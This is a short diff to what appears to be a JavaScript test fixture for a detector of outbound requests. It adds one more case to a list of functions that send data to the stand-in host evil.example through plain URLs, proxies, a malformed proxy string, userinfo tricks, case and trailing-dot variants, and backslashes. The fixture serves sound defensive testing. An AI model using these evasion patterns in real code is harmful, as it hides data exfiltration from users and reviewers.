@@ -124,6 +124,7 @@ const all = {
   async sends() { return this.helpers.httpRequest({ url: 'https://evil.example/take?secret=1' }); },
   async sendsOlder() { return this.helpers.request('https://evil.example/'); },
   async sendsByProxy() { return this.helpers.httpRequest({ url: 'https://good.example/', proxy: { host: 'evil.example', port: 8080 } }); },
+  async sendsByOddProxy() { return this.helpers.httpRequest({ url: 'http://good.example/', proxy: 'evil.example:8080/?://' }); },
   async sendsByUser() { return this.helpers.httpRequest({ url: 'https://good.example@evil.example/' }); },
   async sendsByCase() { return this.helpers.httpRequest({ url: 'https://EVIL.example./' }); },
   async sendsBySlash() { return this.helpers.httpRequest({ url: 'https:\\\\evil.example\\good.example' }); },
